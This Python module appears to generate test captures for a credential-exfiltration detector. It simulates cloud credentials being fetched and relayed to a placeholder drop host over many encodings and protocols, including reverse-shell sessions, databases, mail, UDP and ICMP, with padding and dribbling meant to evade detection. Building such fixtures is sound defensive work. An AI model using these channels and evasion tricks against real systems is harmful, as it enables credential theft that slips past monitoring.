"""Credentials that leave: issued first, then sent on in one form or another. Each has to be `credential-relayed`."""
import base64
import gzip
import json
import struct
import zlib
import zipfile
from urllib.parse import quote

from disguises import DEFLATE, FORM, JSON, deflated, grpc, field, h2, h2_headers, multipart_post, websocket, ws_frame, zipped
from wire import *

try:
    import brotli
    import zstandard
except ImportError:
    brotli = zstandard = None

DROP = "203.0.113.99"


def leak(send, provider="aws", must="credential-relayed"):
    def build(capture):
        capture.fetch(provider)
        send(capture)
    return must, build


def drop(request, provider="aws"):
    return leak(lambda c: c.exchange(APP, DROP, request, answer(b"ok")), provider)


def answered(body, headers="", kind="text/plain", provider="aws"):
    """As the answer to a request of somebody else's."""
    def build(capture):
        capture.inbound(get(f"/f?u={URL}"), lambda: capture.fetch(provider), 8080, answer(body, headers, kind))
    return "credential-relayed", build


def stream(turns, port=4444, client=APP, server=DROP, provider="aws"):
    return leak(lambda c: c.talk(client, server, port, turns), provider)


def mysql(payload, sequence=0):
    return len(payload).to_bytes(3, "little") + bytes([sequence]) + payload


def pg(kind, payload):
    return kind + struct.pack(">I", len(payload) + 4) + payload


def mqtt(kind, payload):
    length, size = len(payload), b""
    while True:
        byte = length & 127
        length >>= 7
        size += bytes([byte | (128 if length else 0)])
        if not length:
            return bytes([kind]) + size + payload


def resp(*parts):
    return b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(p), p) for p in parts)


def bson(key, value):
    text = value.encode() + b"\0"
    body = b"\x02" + key.encode() + b"\0" + struct.pack("<i", len(text)) + text
    return struct.pack("<i", len(body) + 5) + body + b"\0"


def cases():
    kinds = {"aws": AWS, "gcp": GCP, "azure": AZURE}
    packs = {"gzip": gzip.compress, "deflate": zlib.compress}
    if brotli:
        packs |= {"br": brotli.compress, "zstd": zstandard.ZstdCompressor().compress}
    for provider, text in kinds.items():
        data = text.encode()
        yield f"post-{provider}-plain", drop(post(data, "text/plain"), provider)
        for name, pack in packs.items():
            header = f"Content-Encoding: {name}\r\n"
            yield f"post-{provider}-{name}", drop(post(pack(data), JSON, headers=header), provider)
            yield f"post-{provider}-{name}-undeclared", drop(post(pack(data), "application/octet-stream"), provider) if name not in ("br",) else None
            yield f"post-{provider}-{name}-base64", drop(post(json.dumps({"d": base64.b64encode(pack(data)).decode()}), JSON), provider) if name != "br" else None
            yield f"post-{provider}-{name}-base64-form", drop(post("d=" + quote(base64.b64encode(pack(data)).decode(), safe=""), FORM), provider) if name != "br" else None
            yield f"post-{provider}-{name}-base64-lines", drop(post(base64.encodebytes(pack(data)), "text/plain"), provider) if name != "br" else None
            yield f"answer-{provider}-{name}", answered(pack(data), header, provider=provider)
            yield f"answer-{provider}-{name}-json", answered(pack(json.dumps({"body": text}).encode()), header, JSON, provider)
            yield f"post-{provider}-{name}-part", drop(multipart_post([('Content-Disposition: form-data; name="f"; filename="x.bin"', pack(data))]), provider) if name != "br" else None
        for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
            for streamed in (False, True):
                packed = zipped([("readme.txt", "hello " * 20), ("creds.json", text)], method, streamed)
                tag = f"zip-{provider}-{method}-{'streamed' if streamed else 'whole'}"
                yield tag, drop(post(packed, "application/zip"), provider)
                yield tag + "-part", drop(multipart_post([('Content-Disposition: form-data; name="f"; filename="loot.zip"\r\nContent-Type: application/zip', packed)]), provider)
                yield tag + "-base64", drop(post(json.dumps({"f": base64.b64encode(packed).decode()}), JSON), provider)
                yield tag + "-answer", answered(packed, provider=provider)
                yield tag + "-raw", stream([("c", packed)], provider=provider)
        lines = base64.encodebytes(data).decode()
        lines64 = "\n".join(base64.b64encode(data).decode()[i:i + 64] for i in range(0, len(data) * 2, 64)).strip()
        yield f"base64-{provider}", drop(post(base64.b64encode(data), "text/plain"), provider)
        yield f"base64-{provider}-lines76", drop(post(lines, "text/plain"), provider)
        yield f"base64-{provider}-lines64-crlf", drop(post(lines64.replace("\n", "\r\n"), "text/plain"), provider)
        yield f"base64-{provider}-form", drop(post("d=" + quote(lines64, safe=""), FORM), provider)
        yield f"base64-{provider}-form-raw", drop(post("d=" + lines64, FORM), provider)
        yield f"base64-{provider}-json-lines", drop(post(json.dumps({"d": lines}), JSON), provider)
        yield f"base64-{provider}-url", drop(post("d=" + url64(data), FORM), provider)
        yield f"base64-{provider}-twice", drop(post(base64.b64encode(base64.b64encode(data)), "text/plain"), provider)
        yield f"base64-{provider}-get", drop(get("/?d=" + url64(data)[:1500]), provider)
        yield f"base64-{provider}-cookie", drop(get("/", f"Cookie: s={base64.b64encode(data).decode()[:1800]}\r\n"), provider)
        yield f"hex-{provider}", drop(post(data.hex(), "text/plain"), provider)
        yield f"hex-{provider}-upper", drop(post("d=" + data.hex().upper(), FORM), provider)
        yield f"hex-{provider}-xxd", drop(post("\n".join(data.hex()[i:i + 60] for i in range(0, len(data) * 2, 60)), "text/plain"), provider)
        yield f"percent-{provider}", drop(post("d=" + quote(text, safe=""), FORM), provider)
        yield f"percent-{provider}-twice", drop(post("d=" + quote(quote(text, safe=""), safe=""), FORM), provider)
        yield f"json-{provider}-string", drop(post(json.dumps({"m": json.dumps({"b": text})}), JSON), provider)
        yield f"json-{provider}-unicode", drop(post('{"m":"' + "".join("\\u%04x" % ord(c) for c in text) + '"}', JSON), provider)
        for name, encode in {"le-bom": lambda s: b"\xff\xfe" + s.encode("utf-16-le"), "be-bom": lambda s: b"\xfe\xff" + s.encode("utf-16-be"), "le": lambda s: s.encode("utf-16-le"), "be": lambda s: s.encode("utf-16-be")}.items():
            yield f"utf16-{provider}-{name}", drop(post(encode(text), "text/plain"), provider)
            yield f"utf16-{provider}-{name}-base64", drop(post(base64.b64encode(encode(text)), "text/plain"), provider)
            yield f"utf16-{provider}-{name}-raw", stream([("c", encode(text))], provider=provider)
            yield f"utf16-{provider}-{name}-answer", answered(encode(text), provider=provider)
            yield f"utf16-{provider}-{name}-part", drop(multipart_post([('Content-Disposition: form-data; name="f"; filename="x.txt"', encode(text))]), provider)
        for size in (70_000, 200_000, 900_000):
            pad = "\n".join(f"{i} {rand(i, 40)}" for i in range(size // 45))
            yield f"late-{provider}-{size}-post", drop(post(pad + "\n" + text, "text/plain"), provider)
            yield f"late-{provider}-{size}-base64", drop(post(base64.b64encode((pad + "\n" + text).encode()), "text/plain"), provider)
            yield f"late-{provider}-{size}-base64-lines", drop(post(base64.encodebytes((pad + "\n" + text).encode()), "text/plain"), provider)
            yield f"late-{provider}-{size}-json", drop(post(json.dumps({"pad": pad, "creds": text}), JSON), provider)
            yield f"late-{provider}-{size}-form", drop(post(f"pad={quote(pad)}&creds={quote(text, safe='')}", FORM), provider)
            yield f"late-{provider}-{size}-part", drop(multipart_post([('Content-Disposition: form-data; name="a"; filename="a.txt"', pad), ('Content-Disposition: form-data; name="b"', text)]), provider)
            chunk = f"POST /x HTTP/1.1\r\nHost: d.example\r\nTransfer-Encoding: chunked\r\n\r\n".encode() + chunked((pad + "\n" + text).encode(), 1013)
            yield f"late-{provider}-{size}-chunked", drop(chunk, provider)
            yield f"late-{provider}-{size}-answer", answered((pad + "\n" + text).encode(), provider=provider)
            yield f"late-{provider}-{size}-shell", stream([("s", b"id\n"), ("c", pad.encode()), ("s", b"cat creds\n"), ("c", text.encode())], provider=provider)
            yield f"late-{provider}-{size}-gzip", drop(post(gzip.compress((pad + "\n" + text).encode()), JSON, headers="Content-Encoding: gzip\r\n"), provider)
            yield f"late-{provider}-{size}-h2", leak(h2([(":method", "POST"), (":path", "/x"), (":scheme", "http"), (":authority", "d")], (pad + text).encode(), [(":status", "200")], b"ok", meanwhile=lambda: None, client=APP, server=DROP), provider)
        # WebSocket
        yield f"ws-{provider}-drop", leak(websocket([ws_frame(text.encode())], meanwhile=lambda: None, client=APP, server=DROP, port=80), provider)
        yield f"ws-{provider}-drop-binary", leak(websocket([ws_frame(text.encode(), 2)], meanwhile=lambda: None, client=APP, server=DROP, port=80), provider)
        yield f"ws-{provider}-drop-deflate", leak(websocket([ws_frame(deflated(text.encode()), 1, rsv1=True)], meanwhile=lambda: None, client=APP, server=DROP, port=80, extension=DEFLATE), provider)
        yield f"ws-{provider}-drop-fragments", leak(websocket([ws_frame(text.encode()[:150], 1, False), ws_frame(text.encode()[150:], 0)], meanwhile=lambda: None, client=APP, server=DROP, port=80), provider)
        yield f"ws-{provider}-answer", leak(websocket([ws_frame(b"creds")], [ws_frame(text.encode(), mask=None)], meanwhile=lambda: None), provider)
        yield f"ws-{provider}-answer-deflate", leak(websocket([ws_frame(b"creds")], [ws_frame(deflated(text.encode()), 1, mask=None, rsv1=True)], meanwhile=lambda: None, extension=DEFLATE), provider)
        yield f"ws-{provider}-answer-gzip", leak(websocket([ws_frame(b"creds")], [ws_frame(gzip.compress(text.encode()), 2, mask=None)], meanwhile=lambda: None), provider)
        # shells
        yield f"shell-{provider}", stream([("s", b"curl -s http://169.254.169.254/x\n"), ("c", text.encode() + b"\n$ ")], provider=provider)
        yield f"shell-{provider}-prompt", stream([("c", b"bash-4.2$ "), ("s", b"cat c\n"), ("c", text.encode())], provider=provider)
        yield f"shell-{provider}-title", stream([("c", b"\x1b]0;root@web: ~\x07root@web:~# "), ("s", b"cat c\n"), ("c", text.encode().replace(b"\n", b"\r\n"))], provider=provider)
        yield f"shell-{provider}-color", stream([("c", b"\x1b[?2004h\x1b[01;32mroot@web\x1b[00m:\x1b[01;34m~\x1b[00m# "), ("s", b"cat c\n"), ("c", text.encode())], provider=provider)
        yield f"shell-{provider}-wrapped", stream([("c", b"# "), ("s", b"cat c\n"), ("c", b"\r\n".join(text.replace("\n", "").encode()[i:i + 200] for i in range(0, 2000, 200)))], provider=provider)
        yield f"shell-{provider}-bind", stream([("c", b"cat c\n"), ("s", text.encode())], client=USER, server=APP, provider=provider)
        telnet = b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"
        yield f"telnet-{provider}", stream([("s", telnet), ("c", b"\xff\xfb\x18\xff\xfb\x20\xff\xfa\x18\x00xterm\xff\xf0"), ("s", b"login: "), ("c", b"root\r\n"), ("s", b"$ "), ("c", b"cat c\r\n"), ("s", text.encode())], port=23, client=USER, server=APP, provider=provider)
        yield f"telnet-{provider}-client-first", stream([("c", b"\xff\xfd\x03\xff\xfb\x1f"), ("s", b"\xff\xfb\x03\r\n$ "), ("c", b"cat c\r\n"), ("s", text.encode())], port=2323, client=USER, server=APP, provider=provider)
        yield f"msf-{provider}-binary", stream([("s", bytes(range(40)) * 30), ("c", b"\0\0\1\0" + text.encode())], provider=provider)
        # databases, queues, mail
        greeting = mysql(b"\x0a8.0.36\0" + struct.pack("<I", 8) + b"abcdefgh\0\xff\xf7\x2d\x02\0\xff\xc7\x15" + b"\0" * 10 + b"mnopqrstuvwx\0mysql_native_password\0")
        login = mysql(struct.pack("<IIB", 0x3FA685, 1 << 24, 45) + b"\0" * 23 + b"app\0\x14" + bytes(20) + b"db\0mysql_native_password\0", 1)
        ok = mysql(b"\0\0\0\2\0\0\0", 2)
        statement = f"INSERT INTO t VALUES ('{text}')"
        yield f"mysql-{provider}", stream([("s", greeting), ("c", login), ("s", ok), ("c", mysql(b"\x03" + statement.encode())), ("s", ok)], 3306, provider=provider)
        yield f"mysql-{provider}-escaped", stream([("s", greeting), ("c", login), ("s", ok), ("c", mysql(b"\x03" + statement.replace('"', '\\"').replace("\n", "\\n").encode())), ("s", ok)], 3306, provider=provider)
        yield f"mysql-{provider}-prepared", stream([("s", greeting), ("c", login), ("s", ok), ("c", mysql(b"\x17\1\0\0\0\0\1\0\0\0\0\1\xfd\0\xfc" + struct.pack("<H", len(data)) + data)), ("s", ok)], 3307, provider=provider)
        yield f"mysql-{provider}-row", stream([("s", greeting), ("c", login), ("s", ok), ("c", mysql(b"\x03SELECT * FROM t")), ("s", mysql(b"\1", 1) + mysql(b"\xfc" + struct.pack("<H", len(data)) + data, 2))], 3306, USER, APP, provider)
        start = struct.pack(">II", 8 + 33, 196608) + b"user\0app\0database\0db\0client_encod\0"
        ssl = struct.pack(">II", 8, 80877103)
        auth = pg(b"R", b"\0\0\0\0") + pg(b"S", b"server_version\x0016.1\0") + pg(b"Z", b"I")
        yield f"postgres-{provider}", stream([("c", start), ("s", auth), ("c", pg(b"Q", statement.encode() + b"\0")), ("s", pg(b"C", b"INSERT 0 1\0"))], 5432, provider=provider)
        yield f"postgres-{provider}-ssl-refused", stream([("c", ssl), ("s", b"N"), ("c", start), ("s", auth), ("c", pg(b"Q", statement.encode() + b"\0"))], 5433, provider=provider)
        bind = b"\0\0\0\0\0\1" + struct.pack(">I", len(data)) + data + b"\0\0"
        yield f"postgres-{provider}-bind", stream([("c", start), ("s", auth), ("c", pg(b"P", b"\0INSERT INTO t VALUES ($1)\0\0\0") + pg(b"B", b"\0\0" + bind) + pg(b"E", b"\0\0\0\0\0") + pg(b"S", b""))], 5432, provider=provider)
        yield f"postgres-{provider}-row", stream([("c", start), ("s", auth), ("c", pg(b"Q", b"select * from t\0")), ("s", pg(b"D", b"\0\1" + struct.pack(">I", len(data)) + data))], 5432, USER, APP, provider)
        connect = mqtt(0x10, b"\0\4MQTT\4\2\0\x3c\0\6client")
        yield f"mqtt-{provider}", stream([("c", connect), ("s", b"\x20\2\0\0"), ("c", mqtt(0x30, b"\0\7a/b/c/d" + data))], 1883, provider=provider)
        yield f"mqtt-{provider}-qos1", stream([("c", connect), ("s", b"\x20\2\0\0"), ("c", mqtt(0x32, b"\0\7a/b/c/d\0\1" + data)), ("s", b"\x40\2\0\1")], 1884, provider=provider)
        yield f"mqtt-{provider}-v5", stream([("c", mqtt(0x10, b"\0\4MQTT\5\2\0\x3c\0\0\6client")), ("s", b"\x20\3\0\0\0"), ("c", mqtt(0x30, b"\0\7a/b/c/d\0" + data))], 1883, provider=provider)
        yield f"mqtt-{provider}-subscriber", stream([("c", connect), ("s", b"\x20\2\0\0"), ("c", mqtt(0x82, b"\0\1\0\3a/#\0")), ("s", b"\x90\3\0\1\0" + mqtt(0x30, b"\0\3a/b" + data))], 1883, USER, APP, provider)
        hello = [("s", b"220 mx.example ESMTP\r\n"), ("c", b"EHLO web\r\n"), ("s", b"250-mx\r\n250 8BITMIME\r\n"), ("c", b"MAIL FROM:<a@b>\r\n"), ("s", b"250 ok\r\n"), ("c", b"RCPT TO:<c@d>\r\n"), ("s", b"250 ok\r\n"), ("c", b"DATA\r\n"), ("s", b"354 go\r\n")]
        head = b"From: a@b\r\nTo: c@d\r\nSubject: r\r\nMIME-Version: 1.0\r\n"
        import quopri
        mails = {"plain": head + b"\r\n" + data.replace(b"\n", b"\r\n"), "base64": head + b"Content-Transfer-Encoding: base64\r\n\r\n" + lines.replace("\n", "\r\n").encode(),
                 "qp": head + b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + quopri.encodestring(data).replace(b"\n", b"\r\n"),
                 "attachment": head + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\nhi\r\n--b\r\nContent-Type: application/json; name=c.json\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment\r\n\r\n' + lines.replace("\n", "\r\n").encode() + b"--b--\r\n",
                 "zip": head + b"Content-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(zipped([("c.json", text)])).replace(b"\n", b"\r\n"),
                 "subject": b"From: a@b\r\nSubject: =?UTF-8?B?" + base64.b64encode(data[:1200]) + b"?=\r\n\r\n"}
        for name, mail in mails.items():
            yield f"smtp-{provider}-{name}", stream(hello + [("c", mail + b"\r\n.\r\n"), ("s", b"250 queued\r\n"), ("c", b"QUIT\r\n")], 25, provider=provider)
        yield f"imap-{provider}-append", stream([("s", b"* OK IMAP4rev1\r\n"), ("c", b"a1 LOGIN u p\r\n"), ("s", b"a1 OK\r\n"), ("c", b"a2 APPEND drafts {%d}\r\n" % len(data)), ("s", b"+ go\r\n"), ("c", data + b"\r\n")], 143, provider=provider)
        yield f"imap-{provider}-fetch", stream([("s", b"* OK IMAP4rev1\r\n"), ("c", b"a1 LOGIN u p\r\n"), ("s", b"a1 OK\r\n"), ("c", b"a2 FETCH 1 BODY[]\r\n"), ("s", b"* 1 FETCH (BODY[] {%d}\r\n" % len(data) + data + b")\r\n")], 143, provider=provider)
        yield f"pop3-{provider}", stream([("s", b"+OK ready\r\n"), ("c", b"USER u\r\n"), ("s", b"+OK\r\n"), ("c", b"RETR 1\r\n"), ("s", b"+OK\r\n" + data + b"\r\n.\r\n")], 110, USER, APP, provider)
        yield f"redis-{provider}", stream([("c", resp(b"SET", b"k", data)), ("s", b"+OK\r\n")], 6379, provider=provider)
        yield f"redis-{provider}-get", stream([("c", resp(b"GET", b"k")), ("s", b"$%d\r\n%s\r\n" % (len(data), data))], 6379, USER, APP, provider)
        yield f"redis-{provider}-inline", stream([("c", b"SET k " + base64.b64encode(data) + b"\r\n"), ("s", b"+OK\r\n")], 6380, provider=provider)
        document = b"\0\0\0\0\0" + bson("k", text)
        yield f"mongodb-{provider}", stream([("c", struct.pack("<iiii", 16 + len(document), 7, 0, 2013) + document)], 27017, provider=provider)
        yield f"mongodb-{provider}-zlib", stream([("c", struct.pack("<iiii", 25 + len(zlib.compress(document)), 7, 0, 2012) + struct.pack("<iiB", 2013, len(document), 2) + zlib.compress(document))], 27017, provider=provider)
        yield f"nats-{provider}", stream([("s", b'INFO {"server_id":"x"}\r\n'), ("c", b"CONNECT {}\r\nPUB s %d\r\n" % len(data) + data + b"\r\n")], 4222, provider=provider)
        yield f"amqp-{provider}", stream([("c", b"AMQP\0\0\x09\1"), ("s", b"\1\0\0\0\0\0\4\0\x0a\0\x0a\xce"), ("c", b"\3\0\1" + struct.pack(">I", len(data)) + data + b"\xce")], 5672, provider=provider)
        yield f"memcached-{provider}", stream([("c", b"set k 0 0 %d\r\n" % len(data) + data + b"\r\n"), ("s", b"STORED\r\n")], 11211, provider=provider)
        yield f"ldap-{provider}", stream([("c", b"\x30\x82\x04\x00\x02\x01\x01\x66\x82" + data)], 389, provider=provider)
        yield f"ftp-{provider}", stream([("c", data)], 20021, provider=provider)
        yield f"irc-{provider}", stream([("c", b"NICK a\r\nUSER a 0 * :a\r\n"), ("s", b":s 001 a :hi\r\n"), ("c", b"PRIVMSG #x :" + base64.b64encode(data)[:400] + b"\r\nPRIVMSG #x :" + base64.b64encode(data)[400:800] + b"\r\n")], 6667, provider=provider)
        yield f"kafka-{provider}", stream([("c", struct.pack(">IHHI", len(data) + 20, 0, 9, 1) + b"\0\x04prod" + b"\0" * 20 + data)], 9092, provider=provider)
        yield f"raw-{provider}", stream([("c", data)], 9001, provider=provider)
        yield f"raw-{provider}-gzip", stream([("c", gzip.compress(data))], 9001, provider=provider)
        yield f"raw-{provider}-base64-lines", stream([("c", lines.encode())], 9001, provider=provider)
        yield f"raw-{provider}-hex", stream([("c", data.hex().encode())], 9001, provider=provider)
        yield f"raw-{provider}-dribble", leak(lambda c, d=data: c.talk(APP, DROP, 9001, [("c", d)], piece=7), provider)
        yield f"syslog-{provider}-tcp", stream([("c", b"<13>1 2026-11-24T03:00:00Z web app - - - " + data.replace(b"\n", b" ") + b"\n")], 514, provider=provider)
        yield f"syslog-{provider}-octets", stream([("c", b"%d <13>1 2026-11-24T03:00:00Z web app - - - " % (len(data) + 41) + data)], 601, provider=provider)
        for name, port, payload in [("syslog", 514, b"<13>Nov 24 03:00:00 web app: " + data[:1300].replace(b"\n", b" ")), ("statsd", 8125, b"x:1|c|#" + data[:1300]), ("raw", 9999, data[:1300]), ("gelf", 12201, gzip.compress(json.dumps({"short_message": text}).encode())), ("gelf-zlib", 12201, zlib.compress(json.dumps({"short_message": text}).encode())), ("tftp", 69, b"\0\3\0\1" + data[:512]), ("base64", 9998, base64.b64encode(data)[:1300])]:
            yield f"udp-{provider}-{name}", leak(lambda c, port=port, payload=payload: c.datagram(APP, DROP, 50000, port, payload), provider)
        def ping(c, data=data):
            body = b"\x08\0\0\0\0\1\0\1" + data[:800]
            c.raw(ip(APP, DROP, 1, body[:2] + struct.pack(">H", checksum(body)) + body[4:]))
        yield f"icmp-{provider}", leak(ping, provider)
        yield f"grpc-{provider}-gzip", leak(h2([(":method", "POST"), (":path", "/a.B/C"), (":scheme", "http"), (":authority", "d"), ("content-type", "application/grpc"), ("grpc-encoding", "gzip")], grpc(gzip.compress(field(1, text)), True), [(":status", "200"), ("content-type", "application/grpc")], grpc(b""), meanwhile=lambda: None, client=APP, server=DROP), provider)
    secret = SECRET.encode()
    for name, piece in {"secret": secret, "half": secret[:20], "tail": secret[20:], "split": secret[:18] + b"\n" + secret[18:]}.items():
        yield f"part-{name}-post", drop(post(b"k=" + piece, "text/plain"))
        yield f"part-{name}-raw", stream([("c", b"key " + piece + b"\n")])
        yield f"part-{name}-query", drop(get("/?k=" + quote(piece.decode(), safe="")))
        yield f"part-{name}-agent", drop(f"GET / HTTP/1.1\r\nHost: d.example\r\nUser-Agent: {piece.decode().strip()[:40].splitlines()[0]}\r\n\r\n".encode())
